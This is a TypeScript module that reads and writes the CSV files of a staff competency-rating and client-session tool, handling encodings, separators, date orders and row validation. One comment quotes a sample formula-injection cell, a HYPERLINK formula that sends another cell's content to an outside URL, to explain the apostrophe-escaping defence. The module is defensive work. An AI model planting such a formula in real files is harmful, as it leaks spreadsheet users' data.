/**
 * The CSV contracts (README "Data contracts"), both directions: bytes to text (encoding), text to rows
 * (separator, headers, one date reading per file), rows to typed records, and records back to CSV text.
 * Pure: they take bytes or text, never a path.
 *
 * Every reader goes through readCsv and every writer through writeCsv, so a rule about CSV cells (for
 * example neutralising formulas) has one place to live.
 *
 * Parsers return typed records plus problems naming file, row (the header is row 1, as a spreadsheet
 * shows it) and column (as the file's header spells it). A row with a problem is left out; the rest are
 * kept. A file whose header is wrong gives one problem and no rows.
 */
import { parse } from 'csv-parse/sync';
import { Framework, flattenCompetencies } from './framework';
import { Items, Session } from './pcoms';
import { periodSpeller } from './periods';
import { Problem } from './problems';
import { Rating } from './ratings';
import { RoleProfile, unknownRoleMessage } from './roles';
import { parseScore, Scale, Score, scoreText } from './scale';
import { AgeGroup } from './settings';
import { criterionProblem } from './codes';

export interface Worker {
  workerId: string;
  name: string;
  role: string;
  supervisor: string;
  /** ISO yyyy-mm-dd or ''. */
  startDate: string;
}

export interface Parsed<T> {
  records: T[];
  problems: Problem[];
  /** Rows kept, but worth a look (a session dated before the one numbered before it, an unknown role). */
  warnings: Problem[];
  /** How the file was read, when that was not the default (encoding, date order, ids and labels matched). */
  notes: string[];
}

export const TEAM_COLUMNS = ['worker_id', 'name', 'role', 'supervisor', 'start_date'] as const;
export const RATING_COLUMNS = [
  'worker_id',
  'period',
  'framework',
  'competency_id',
  'self',
  'supervisor',
  'notes',
] as const;
/** Optional ratings columns: the development plan typed beside a rating. */
export const RATING_PLAN_COLUMNS = ['goal', 'action_steps', 'target_date'] as const;
export const SESSION_COLUMNS = [
  'person_code',
  'worker_id',
  'date',
  'session',
  'ors_individually',
  'ors_interpersonally',
  'ors_socially',
  'ors_overall',
  'srs_relationship',
  'srs_goals',
  'srs_approach',
  'srs_overall',
  'age_group',
] as const;

/**
 * Headers the workbook's own sheets use (Team table, rating table and labels, outcomes log), accepted in
 * place of the contract's names. Matching ignores case, spaces, _ and -.
 */
export const HEADER_ALIASES: Record<string, readonly string[]> = {
  worker_id: ['Worker ID'],
  name: ['Name'],
  role: ['Role'],
  supervisor: ['Supervisor'],
  start_date: ['Start date'],
  period: ['Period'],
  framework: ['Framework'],
  competency_id: ['Competency ID', 'ID'],
  self: ['Self'],
  notes: ['Notes'],
  goal: ['Goal'],
  action_steps: ['Action steps'],
  target_date: ['Target date'],
  person_code: ['Person code'],
  date: ['Date'],
  session: ['Session'],
  ors_individually: ['ORS Individually'],
  ors_interpersonally: ['ORS Interpersonally'],
  ors_socially: ['ORS Socially'],
  ors_overall: ['ORS Overall'],
  srs_relationship: ['SRS Relationship'],
  srs_goals: ['SRS Goals and Topics'],
  srs_approach: ['SRS Approach or Method'],
  srs_overall: ['SRS Overall'],
  age_group: ['Age group'],
};

export const headerKey = (h: string) => h.toLowerCase().replace(/[\s_-]+/g, '');

// ---------------------------------------------------------------------------------------
// Bytes to text
// ---------------------------------------------------------------------------------------

export type TextEncoding = 'UTF-8' | 'UTF-16' | 'Windows-1252';

/** Windows-1252's 0x80-0x9F (where it differs from Latin-1); undefined bytes stay as they are. */
const CP1252 = [
  0x20ac, 0x81, 0x201a, 0x192, 0x201e, 0x2026, 0x2020, 0x2021, 0x2c6, 0x2030, 0x160, 0x2039, 0x152, 0x8d,
  0x17d, 0x8f, 0x90, 0x2018, 0x2019, 0x201c, 0x201d, 0x2022, 0x2013, 0x2014, 0x2dc, 0x2122, 0x161, 0x203a,
  0x153, 0x9d, 0x17e, 0x178,
];

function windows1252(bytes: Uint8Array): string {
  let s = '';
  for (const b of bytes) s += String.fromCharCode(b >= 0x80 && b < 0xa0 ? CP1252[b - 0x80] : b);
  return s;
}

const startsWith = (bytes: Uint8Array, sig: number[]) => sig.every((b, i) => bytes[i] === b);
const ascii = (bytes: Uint8Array, from: number, to: number) =>
  String.fromCharCode(...bytes.subarray(from, Math.min(to, bytes.length)));

const SAVE_AS_CSV = 'save it as "CSV UTF-8 (Comma delimited) (*.csv)" (Excel: File > Save As)';

export type FileKind = 'xlsx' | 'ods' | 'zip' | 'xls' | 'pdf' | 'html' | 'binary' | 'text';

/** What a file is, from its first bytes. */
export function fileKind(bytes: Uint8Array): FileKind {
  if (startsWith(bytes, [0x50, 0x4b, 0x03, 0x04])) {
    const head = ascii(bytes, 0, 4000);
    if (head.includes('mimetypeapplication/vnd.oasis.opendocument.spreadsheet')) return 'ods';
    return /\[Content_Types\]\.xml|xl\//.test(head) ? 'xlsx' : 'zip';
  }
  if (startsWith(bytes, [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])) return 'xls';
  if (ascii(bytes, 0, 5) === '%PDF-') return 'pdf';
  if (/^\s*<(!doctype html|html)/i.test(ascii(bytes, 0, 200))) return 'html';
  return bytes.subarray(0, 4096).includes(0) ? 'binary' : 'text';
}

/** What a file that is not CSV text is, and what to do; null for text. */
function notText(bytes: Uint8Array): string | null {
  const kind = fileKind(bytes);
  return kind === 'text'
    ? null
    : {
        ods: `is an OpenDocument spreadsheet (.ods), not CSV: in LibreOffice use File > Save As, "Text CSV (.csv)", character set "Unicode (UTF-8)"`,
        xlsx: `is an Excel workbook (.xlsx), not CSV: ${SAVE_AS_CSV}; for a workbook made by this program, use peer-performance export`,
        zip: 'is a zip archive, not CSV text',
        xls: `is an Excel 97-2003 workbook (.xls), not CSV: ${SAVE_AS_CSV}`,
        pdf: 'is a PDF document, not CSV: export the data as CSV from the program that made the PDF',
        html: `is a web page (HTML), not CSV: ${SAVE_AS_CSV}`,
        binary: `is not a text file: ${SAVE_AS_CSV}`,
      }[kind];
}

/**
 * Text from a file's bytes: UTF-8 (with or without a byte order mark), UTF-16 with a byte order mark
 * (Excel's "Unicode Text"), otherwise Windows-1252 (Excel's plain "CSV (Comma delimited)" on Windows).
 * A file that is not text (a workbook, a PDF) gets one problem saying what it is and what to do.
 */
export function decodeText(
  bytes: Uint8Array,
  file: string,
): { text: string; encoding: TextEncoding } | { problem: Problem } {
  if (startsWith(bytes, [0xff, 0xfe]) || startsWith(bytes, [0xfe, 0xff])) {
    const le = bytes[0] === 0xff;
    let s = '';
    for (let i = 2; i + 1 < bytes.length; i += 2)
      s += String.fromCharCode(le ? bytes[i] | (bytes[i + 1] << 8) : (bytes[i] << 8) | bytes[i + 1]);
    return { text: s, encoding: 'UTF-16' };
  }
  const what = notText(bytes);
  if (what) return { problem: { file, message: what } };
  const body = startsWith(bytes, [0xef, 0xbb, 0xbf]) ? bytes.subarray(3) : bytes;
  try {
    return { text: new TextDecoder('utf-8', { fatal: true }).decode(body), encoding: 'UTF-8' };
  } catch {
    return { text: windows1252(body), encoding: 'Windows-1252' };
  }
}

// ---------------------------------------------------------------------------------------
// Dates: one reading per file
// ---------------------------------------------------------------------------------------

export type DateOrder = 'mdy' | 'dmy';

const pad = (n: number) => String(n).padStart(2, '0');

/**
 * A date as ISO yyyy-mm-dd, or null when it is not a real date. Accepted: yyyy-mm-dd (or yyyy/mm/dd),
 * d.m.yyyy, and a/b/yyyy read as `order` says (month first by default, as US Excel saves dates). A time
 * after the date (Excel's "1/13/2026 0:00") is ignored.
 */
export function parseDate(text: string, order: DateOrder = 'mdy'): string | null {
  const t = text.trim().replace(/[ T]\d{1,2}:\d{2}(:\d{2}(\.\d+)?)?( ?[AP]M)?$/i, '');
  let y: number, m: number, d: number;
  let match = /^(\d{4})[-/](\d{1,2})[-/](\d{1,2})$/.exec(t);
  if (match) [y, m, d] = [Number(match[1]), Number(match[2]), Number(match[3])];
  else if ((match = /^(\d{1,2})\.(\d{1,2})\.(\d{4})$/.exec(t)))
    [y, m, d] = [Number(match[3]), Number(match[2]), Number(match[1])];
  else if ((match = /^(\d{1,2})[/-](\d{1,2})[/-](\d{4})$/.exec(t))) {
    const [a, b] = [Number(match[1]), Number(match[2])];
    [y, m, d] = order === 'mdy' ? [Number(match[3]), a, b] : [Number(match[3]), b, a];
  } else return null;
  const dt = new Date(Date.UTC(y, m - 1, d));
  if (dt.getUTCFullYear() !== y || dt.getUTCMonth() !== m - 1 || dt.getUTCDate() !== d) return null;
  return `${y}-${pad(m)}-${pad(d)}`;
}

export interface DateReading {
  order: DateOrder;
  /** Said to the user when the file is read day-first. */
  note?: string;
  /** The file's dates cannot be read one way: nothing in it is used. */
  problem?: Problem;
}

interface DateCell {
  text: string;
  row: number;
  column: string;
}

/**
 * One reading for all of a file's a/b/yyyy dates: day-first when some first part is above 12, month-first
 * when some second part is; both in one file is refused, and so is a `;` or tab separated file (saved in
 * a day-first locale) whose dates fit both readings. Never a silent mix.
 */
export function dateReading(cells: DateCell[], file: string, separator: string): DateReading {
  const slashed = cells
    .map((c) => ({ ...c, m: /^(\d{1,2})[/-](\d{1,2})[/-](\d{2,4})\b/.exec(c.text.trim()) }))
    .filter((c) => c.m);
  const short = slashed.find((c) => c.m![3].length !== 4);
  const where = (c: DateCell) => `row ${c.row} "${c.text}"`;
  if (short)
    return {
      order: 'mdy',
      problem: {
        file,
        row: short.row,
        column: short.column,
        message: `"${short.text}" has a two-digit year; save dates as yyyy-mm-dd (or with four-digit years)`,
      },
    };
  const dayFirst = slashed.find((c) => Number(c.m![1]) > 12);
  const monthFirst = slashed.find((c) => Number(c.m![2]) > 12);
  if (dayFirst && monthFirst)
    return {
      order: 'mdy',
      problem: {
        file,
        column: dayFirst.column,
        message: `has dates in two orders: ${where(dayFirst)} is day-first but ${where(monthFirst)} is month-first; save the dates as yyyy-mm-dd`,
      },
    };
  if (dayFirst)
    return { order: 'dmy', note: `${file}: dates read day-first (dd/mm/yyyy), as ${where(dayFirst)} shows` };
  if (slashed.length && separator !== ',' && !monthFirst)
    return {
      order: 'mdy',
      problem: {
        file,
        column: slashed[0].column,
        message: `dates such as ${where(slashed[0])} could be day-first or month-first, and this ${separator === ';' ? 'semicolon' : 'tab'}-separated file may come from a day-first locale; save the dates as yyyy-mm-dd`,
      },
    };
  return { order: 'mdy' };
}

// ---------------------------------------------------------------------------------------
// Reading: the one entry point
// ---------------------------------------------------------------------------------------

/** A data row keyed by contract column name (values trimmed), with its row number as a spreadsheet shows it. */
export type Row = Record<string, string>;

export interface CsvTable {
  rows: { row: number; values: Row }[];
  /** Contract column -> the header as the file spells it (for messages). */
  headers: Record<string, string>;
  separator: string;
  dates: DateReading;
  problems: Problem[];
  notes: string[];
}

export interface TableSpec {
  required: readonly string[];
  optional?: readonly string[];
  /** Date columns: one reading for all of them (dateReading). */
  dates?: readonly string[];
  /** Said after the list when these columns are missing. */
  hint?: (missing: string[], found: string[]) => string | undefined;
}

const SEPARATORS = [',', ';', '\t'];

function splitLine(line: string, sep: string): string[] {
  return line.split(sep).map((c) => c.trim().replace(/^"(.*)"$/, '$1'));
}

/** The contract column a header names, or undefined. */
function columnOf(header: string, columns: readonly string[]): string | undefined {
  const k = headerKey(header);
  return columns.find((c) => headerKey(c) === k || (HEADER_ALIASES[c] ?? []).some((a) => headerKey(a) === k));
}

/** `,` `;` or tab: the one that splits the header line into the most known columns (then the most cells). */
function detectSeparator(line: string, columns: readonly string[]): string {
  const score = (sep: string) => {
    const cells = splitLine(line, sep);
    return cells.filter((c) => columnOf(c, columns)).length * 1000 + cells.length;
  };
  return SEPARATORS.reduce((best, s) => (score(s) > score(best) ? s : best), ',');
}

/**
 * CSV text to rows keyed by contract column names. Accepts the contract's snake_case headers and the
 * workbook's own headers, any case and spacing; extra columns are ignored. Separator `,` `;` or tab,
 * from the header line (or an Excel `sep=;` first line). A header problem is one problem and no rows.
 */
export function readCsv(text: string, file: string, spec: TableSpec): CsvTable {
  const columns = [...new Set([...spec.required, ...(spec.optional ?? [])])];
  const none = (p: Problem): CsvTable => ({
    rows: [],
    headers: {},
    separator: ',',
    dates: { order: 'mdy' },
    problems: [p],
    notes: [],
  });
  let body = text.replace(/^\uFEFF/, '');
  if (body.trim() === '')
    return none({ file, message: `is empty (expected a header row: ${spec.required.join(',')})` });
  let skipped = 0;
  let separator: string;
  const sepLine = /^sep=(.)\r?\n/i.exec(body);
  if (sepLine) {
    separator = sepLine[1];
    body = body.slice(sepLine[0].length);
    skipped = 1;
  } else separator = detectSeparator(body.split(/\r?\n/).find((l) => l.trim()) ?? '', columns);
  let raw: string[][];
  try {
    raw = parse(body, { delimiter: separator, relax_column_count: true }) as string[][];
  } catch (e) {
    const err = e as { message: string; lines?: number };
    return none({
      file,
      row: err.lines === undefined ? undefined : err.lines + skipped,
      message: `is not readable CSV: ${err.message.replace(/^Invalid Record Length: |\s*$/g, '')}`,
    });
  }
  const blank = (cells: string[]) => cells.every((c) => c.trim() === '');
  const headerAt = raw.findIndex((cells) => !blank(cells));
  const header = raw[headerAt].map((h) => h.trim());
  const headers: Record<string, string> = {};
  const at: Record<string, number> = {};
  for (const [i, h] of header.entries()) {
    const col = columnOf(h, columns);
    if (!col) continue;
    if (col in at)
      return none({
        file,
        row: headerAt + 1 + skipped,
        message: `has two ${col} columns ("${headers[col]}" and "${h}"); keep one`,
      });
    at[col] = i;
    headers[col] = h;
  }
  const missing = spec.required.filter((c) => !(c in at) && !spec.optional?.includes(c));
  if (missing.length) {
    const hint = spec.hint?.(missing, Object.keys(at));
    return none({
      file,
      row: headerAt + 1 + skipped,
      message:
        `is missing column${missing.length > 1 ? 's' : ''} ${missing.join(', ')} (expected ${spec.required.join(',')})` +
        (hint ? `; ${hint}` : ''),
    });
  }
  const rows: CsvTable['rows'] = [];
  raw.forEach((cells, i) => {
    if (i <= headerAt || blank(cells)) return;
    const values = {} as Row;
    for (const c of columns) values[c] = c in at ? restoreFormulaText((cells[at[c]] ?? '').trim()) : '';
    rows.push({ row: i + 1 + skipped, values });
  });
  const dateCells = (spec.dates ?? [])
    .filter((c) => c in at)
    .flatMap((c) => rows.map((r) => ({ text: r.values[c], row: r.row, column: headers[c] })))
    .filter((c) => c.text);
  const dates = dateReading(dateCells, file, separator);
  return {
    rows: dates.problem ? [] : rows,
    headers,
    separator,
    dates,
    problems: dates.problem ? [dates.problem] : [],
    notes: dates.note ? [dates.note] : [],
  };
}

// ---------------------------------------------------------------------------------------
// Writing: the one function
// ---------------------------------------------------------------------------------------

/**
 * Formula injection (CSV injection, OWASP): Excel opening a CSV runs a field that begins with = + - @ (or a
 * tab or carriage return before one) as a formula, so `=HYPERLINK("http://…?leak="&B2)` typed as a note
 * into a returned form would become a live link in ratings.csv. Every text field we write that begins with
 * one of those characters gets a leading apostrophe, as does a text that already begins with apostrophes
 * before one, so that reading undoes exactly one apostrophe and the round trip gives back the text as
 * typed. Numbers are written as numbers: a negative number stays a number.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Undoes neutraliseFormula: one apostrophe off a field that is apostrophes then a formula character. */
export function restoreFormulaText(field: string): string {
  return field.startsWith("'") && FORMULA_START.test(field) ? field.slice(1) : field;
}

const csvField = (cell: string | number) => {
  if (typeof cell === 'number') return String(cell);
  const s = neutraliseFormula(cell);
  return /[",\r\n;\t]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
};

/**
 * CSV text: a UTF-8 byte order mark (so Excel reads accents right; `bom: false` leaves it out), the header,
 * one line per row, fields quoted when they hold a quote, separator, line break, tab or edge space. Text
 * that Excel would run as a formula is neutralised (neutraliseFormula); numbers are written as numbers.
 */
export function writeCsv(
  columns: readonly string[],
  rows: readonly (readonly (string | number)[])[],
  opts: { bom?: boolean } = {},
): string {
  const text = [columns, ...rows].map((r) => r.map(csvField).join(',')).join('\n');
  return `${opts.bom === false ? '' : '\uFEFF'}${text}\n`;
}

/** The roster in the team.csv contract. */
export function teamCsv(workers: Worker[]): string {
  return writeCsv(
    TEAM_COLUMNS,
    workers.map((w) => [w.workerId, w.name, w.role, w.supervisor, w.startDate]),
  );
}

/** A score as a number, N/A and blank as their texts. */
const scoreCell = (score: Score, scale: Scale): string | number =>
  score.kind === 'score' ? score.value : scoreText(score, scale);

/** Ratings in the ratings.csv contract; the plan columns (goal, action steps, target date) when any has one. */
export function ratingsCsv(ratings: Rating[], scale: Scale): string {
  const plan = ratings.some((r) => r.goal || r.actionSteps || r.targetDate);
  return writeCsv(
    plan ? [...RATING_COLUMNS, ...RATING_PLAN_COLUMNS] : RATING_COLUMNS,
    ratings.map((r) => [
      r.workerId,
      r.period,
      r.frameworkId,
      r.competencyId,
      scoreCell(r.self, scale),
      scoreCell(r.supervisor, scale),
      r.notes,
      ...(plan ? [r.goal ?? '', r.actionSteps ?? '', r.targetDate ?? ''] : []),
    ]),
  );
}

/** Sessions in the sessions.csv contract. */
export function sessionsCsv(sessions: Session[]): string {
  const item = (v: number | null) => v ?? '';
  return writeCsv(
    SESSION_COLUMNS,
    sessions.map((s) => [
      s.personCode,
      s.workerId,
      s.date,
      s.session,
      ...s.ors.map(item),
      ...s.srs.map(item),
      s.ageGroup,
    ]),
  );
}

// ---------------------------------------------------------------------------------------
// Rows to records (shared by the CSV parsers and the workbook reader)
// ---------------------------------------------------------------------------------------

/** Where a row's cells are, for messages: a CSV file's row and column, or a sheet's cell. */
export interface RowSource {
  rows: { row: number; values: Row }[];
  at(row: number, column: string): Omit<Problem, 'message'>;
  date(text: string): string | null;
}

function csvSource(file: string, t: CsvTable): RowSource {
  return {
    rows: t.rows,
    at: (row, column) => ({ file, row, column: t.headers[column] ?? column }),
    date: (text) => parseDate(text, t.dates.order),
  };
}

/** Roster ids by lower case: a case variant elsewhere is taken as the roster's spelling. */
export type RosterIds = Map<string, string>;

export function rosterIds(ids: Iterable<string>): RosterIds {
  return new Map([...ids].map((id) => [id.toLowerCase(), id]));
}

/**
 * A worker id checked against the roster: the roster's spelling, or a problem message. `fixed` collects
 * the case variants taken as roster ids.
 */
function rosterId(
  id: string,
  roster: RosterIds | undefined,
  fixed: Map<string, string>,
): { id: string } | { error: string } {
  const problem = id ? criterionProblem(id) : 'is empty';
  if (problem) return { error: problem };
  if (!roster) return { id };
  const known = roster.get(id.toLowerCase());
  if (known === undefined) return { error: `"${id}" is not on the team` };
  if (known !== id) fixed.set(id, known);
  return { id: known };
}

function caseNote(file: string, fixed: Map<string, string>): string[] {
  return fixed.size
    ? [
        `${file}: worker ids taken as the team's spelling: ${[...fixed].map(([a, b]) => `${a} -> ${b}`).join(', ')}`,
      ]
    : [];
}

export interface TeamOptions {
  /** Role profiles: a role none matches is warned about, naming the known roles. */
  roles?: RoleProfile[];
}

/** Team rows to workers; `rejectedIds` are ids of rows left out (so other files do not repeat them). */
export function teamRecords(
  src: RowSource,
  opts: TeamOptions = {},
): Parsed<Worker> & { rejectedIds: string[] } {
  const records: Worker[] = [];
  const problems: Problem[] = [];
  const warnings: Problem[] = [];
  const rejectedIds: string[] = [];
  const ids = new Map<string, number>();
  for (const { row, values: r } of src.rows) {
    const before = problems.length;
    const p = (column: string, message: string) => problems.push({ ...src.at(row, column), message });
    const idProblem = r.worker_id ? criterionProblem(r.worker_id) : null;
    if (!r.worker_id) p('worker_id', 'is empty');
    else if (idProblem) p('worker_id', idProblem);
    else if (ids.has(r.worker_id.toLowerCase()))
      p('worker_id', `"${r.worker_id}" is already used on row ${ids.get(r.worker_id.toLowerCase())}`);
    if (!r.name) p('name', 'is empty');
    let startDate = '';
    if (r.start_date) {
      const d = src.date(r.start_date);
      if (d === null) p('start_date', `"${r.start_date}" is not a date (use yyyy-mm-dd)`);
      else startDate = d;
    }
    if (problems.length > before) {
      if (r.worker_id) rejectedIds.push(r.worker_id);
      continue;
    }
    const role = opts.roles && unknownRoleMessage(opts.roles, r.role);
    if (role) warnings.push({ ...src.at(row, 'role'), message: role });
    ids.set(r.worker_id.toLowerCase(), row);
    records.push({ workerId: r.worker_id, name: r.name, role: r.role, supervisor: r.supervisor, startDate });
  }
  return { records, problems, warnings, notes: [], rejectedIds };
}

export interface RatingContext {
  frameworks: Framework[];
  scale: Scale;
  /** When given, worker ids must be on the team (a case variant is taken as the team's spelling). */
  workerIds?: Set<string> | RosterIds;
  /** Period labels already known: a label equal to one up to case and spacing is that period. */
  periods?: string[];
}

const asRoster = (ids: Set<string> | RosterIds | undefined): RosterIds | undefined =>
  ids === undefined ? undefined : ids instanceof Map ? ids : rosterIds(ids);

/** Rating rows to ratings: scores on the scale, competencies of a known framework, one row per key. */
export function ratingRecords(src: RowSource, file: string, ctx: RatingContext): Parsed<Rating> {
  const ids = new Map(ctx.frameworks.map((f) => [f.id, new Set(flattenCompetencies(f).map((c) => c.id))]));
  const roster = asRoster(ctx.workerIds);
  const spell = periodSpeller(ctx.periods);
  const respelled = new Map<string, string>();
  const fixed = new Map<string, string>();
  const seen = new Map<string, number>();
  const records: Rating[] = [];
  const problems: Problem[] = [];
  for (const { row, values: r } of src.rows) {
    const before = problems.length;
    const p = (column: string, message: string) => problems.push({ ...src.at(row, column), message });
    const worker = rosterId(r.worker_id, roster, fixed);
    if ('error' in worker) p('worker_id', worker.error);
    const period = r.period ? spell(r.period) : '';
    if (!r.period) p('period', 'is empty');
    else if (period !== r.period) respelled.set(r.period, period);
    const known = ids.get(r.framework);
    if (!known) p('framework', `"${r.framework}" is not a known framework (${[...ids.keys()].join(', ')})`);
    else if (!known.has(r.competency_id))
      p('competency_id', `"${r.competency_id}" is not a competency of ${r.framework}`);
    const self = parseScore(r.self, ctx.scale);
    const sup = parseScore(r.supervisor, ctx.scale);
    if ('error' in self) p('self', self.error);
    if ('error' in sup) p('supervisor', sup.error);
    let targetDate = '';
    if (r.target_date) {
      const d = src.date(r.target_date);
      if (d === null) p('target_date', `"${r.target_date}" is not a date (use yyyy-mm-dd)`);
      else targetDate = d;
    }
    const workerId = 'id' in worker ? worker.id : r.worker_id;
    const key = [workerId, period, r.framework, r.competency_id].join('\u0000').toLowerCase();
    if (problems.length === before && seen.has(key))
      p('competency_id', `duplicate of row ${seen.get(key)} (same worker, period, framework and competency)`);
    if (problems.length > before || 'error' in self || 'error' in sup) continue;
    seen.set(key, row);
    records.push({
      workerId,
      period,
      frameworkId: r.framework,
      competencyId: r.competency_id,
      self,
      supervisor: sup,
      notes: r.notes ?? '',
      ...(r.goal ? { goal: r.goal } : {}),
      ...(r.action_steps ? { actionSteps: r.action_steps } : {}),
      ...(targetDate ? { targetDate } : {}),
    });
  }
  const notes = [
    ...caseNote(file, fixed),
    ...[...respelled].map(
      ([a, b]) => `${file}: period "${a}" taken as "${b}" (same label up to case and spacing)`,
    ),
  ];
  return { records, problems, warnings: [], notes };
}

const AGE_GROUPS: AgeGroup[] = ['adult', 'adolescent', 'child'];

/** "Two capitalised words" and longer: likely a person's name, which the log must never hold. */
export function looksLikeName(code: string): boolean {
  const word = "[A-Z][a-z]*(?:['’-][A-Z]?[a-z]+)*";
  return new RegExp(`^${word}(?: ${word})+$`).test(code.trim()) && /[a-z]/.test(code);
}

/** An ORS/SRS item: 0-10 with at most one decimal, or blank. */
export function parseItem(text: string): number | null | { error: string } {
  if (text === '') return null;
  if (!/^\d{1,2}(\.\d)?$/.test(text)) {
    return /^-?\d+(\.\d+)?$/.test(text)
      ? { error: `${text} is not a mark from 0 to 10 with at most one decimal` }
      : { error: `"${text}" is not a number (expected 0-10, e.g. 7.4)` };
  }
  const v = Number(text);
  if (v > 10) return { error: `${text} is above 10 (items are 0-10)` };
  return v;
}

export interface SessionOptions {
  /** Person codes the user confirmed are codes although they look like names. */
  allowCodes?: Set<string>;
  /** When given, worker ids must be on the team (a case variant is taken as the team's spelling). */
  workerIds?: Set<string> | RosterIds;
}

/**
 * Session rows to sessions. Warns (keeps the row) when a session is dated before the session numbered
 * before it for the same person.
 */
export function sessionRecords(src: RowSource, file: string, opts: SessionOptions = {}): Parsed<Session> {
  const records: Session[] = [];
  const rows: number[] = [];
  const problems: Problem[] = [];
  const roster = asRoster(opts.workerIds);
  const fixed = new Map<string, string>();
  const seen = new Map<string, number>();
  for (const { row, values: r } of src.rows) {
    const before = problems.length;
    const p = (column: string, message: string) => problems.push({ ...src.at(row, column), message });
    if (!r.person_code) p('person_code', 'is empty');
    else if (criterionProblem(r.person_code)) p('person_code', criterionProblem(r.person_code)!);
    else if (looksLikeName(r.person_code) && !opts.allowCodes?.has(r.person_code))
      p('person_code', `"${r.person_code}" looks like a name; people served are identified by codes only`);
    const worker = rosterId(r.worker_id, roster, fixed);
    if ('error' in worker) p('worker_id', worker.error);
    const date = src.date(r.date);
    if (date === null) p('date', r.date ? `"${r.date}" is not a date (use yyyy-mm-dd)` : 'is empty');
    if (!/^\d+$/.test(r.session) || Number(r.session) < 1)
      p('session', `"${r.session}" is not a session number (1, 2, ...)`);
    const items = (cols: readonly string[]): Items =>
      cols.map((c) => {
        const v = parseItem(r[c]);
        if (v !== null && typeof v === 'object') {
          p(c, v.error);
          return null;
        }
        return v;
      }) as Items;
    const ors = items(SESSION_COLUMNS.slice(4, 8));
    const srs = items(SESSION_COLUMNS.slice(8, 12));
    const age = (r.age_group || 'adult').toLowerCase() as AgeGroup;
    if (!AGE_GROUPS.includes(age)) p('age_group', `"${r.age_group}" is not one of ${AGE_GROUPS.join(', ')}`);
    const workerId = 'id' in worker ? worker.id : r.worker_id;
    const key = [r.person_code, workerId, date, r.session].join('\u0000');
    if (problems.length === before && seen.has(key))
      p('session', `duplicate of row ${seen.get(key)} (same person, worker, date and session)`);
    if (problems.length > before) continue;
    seen.set(key, row);
    rows.push(row);
    records.push({
      personCode: r.person_code,
      workerId,
      date: date!,
      session: Number(r.session),
      ors,
      srs,
      ageGroup: age,
    });
  }
  return {
    records,
    problems,
    warnings: sessionOrderWarnings(records, (i) => src.at(rows[i], 'date')),
    notes: caseNote(file, fixed),
  };
}

/** A session dated before the session numbered just before it, for the same person: worth a look. */
export function sessionOrderWarnings(
  sessions: Session[],
  at: (index: number) => Omit<Problem, 'message'>,
): Problem[] {
  const byPerson = new Map<string, number[]>();
  sessions.forEach((s, i) => {
    const list = byPerson.get(s.personCode);
    if (list) list.push(i);
    else byPerson.set(s.personCode, [i]);
  });
  const out: { i: number; p: Problem }[] = [];
  for (const [code, list] of byPerson) {
    const sorted = [...list].sort((a, b) => sessions[a].session - sessions[b].session);
    for (let k = 1; k < sorted.length; k++) {
      const [prev, cur] = [sessions[sorted[k - 1]], sessions[sorted[k]]];
      if (cur.session === prev.session || cur.date >= prev.date) continue;
      out.push({
        i: sorted[k],
        p: {
          ...at(sorted[k]),
          message: `session ${cur.session} of ${code} is dated ${cur.date}, before session ${prev.session} (${prev.date}); check the date and the session number`,
        },
      });
    }
  }
  return out.sort((a, b) => a.i - b.i).map((x) => x.p);
}

// ---------------------------------------------------------------------------------------
// The CSV parsers
// ---------------------------------------------------------------------------------------

function parseWith<T>(
  text: string,
  file: string,
  spec: TableSpec,
  records: (src: RowSource) => Parsed<T>,
): Parsed<T> {
  const t = readCsv(text, file, spec);
  const res = records(csvSource(file, t));
  return { ...res, problems: [...t.problems, ...res.problems], notes: [...t.notes, ...res.notes] };
}

export function parseTeamCsv(
  text: string,
  file: string,
  opts: TeamOptions = {},
): Parsed<Worker> & { rejectedIds: string[] } {
  let rejectedIds: string[] = [];
  const res = parseWith(text, file, { required: TEAM_COLUMNS, dates: ['start_date'] }, (src) => {
    const r = teamRecords(src, opts);
    rejectedIds = r.rejectedIds;
    return r;
  });
  return { ...res, rejectedIds };
}

export function parseRatingsCsv(text: string, file: string, ctx: RatingContext): Parsed<Rating> {
  const spec: TableSpec = {
    required: RATING_COLUMNS,
    optional: ['notes', ...RATING_PLAN_COLUMNS],
    dates: ['target_date'],
    hint: (missing, found) =>
      found.includes('self') && (missing.includes('worker_id') || missing.includes('period'))
        ? 'a rating sheet saved as CSV has no worker and period columns: use peer-performance export on the workbook'
        : undefined,
  };
  return parseWith(text, file, spec, (src) => ratingRecords(src, file, ctx));
}

export function parseSessionsCsv(text: string, file: string, opts: SessionOptions = {}): Parsed<Session> {
  return parseWith(
    text,
    file,
    { required: SESSION_COLUMNS, optional: ['age_group'], dates: ['date'] },
    (src) => sessionRecords(src, file, opts),
  );
}
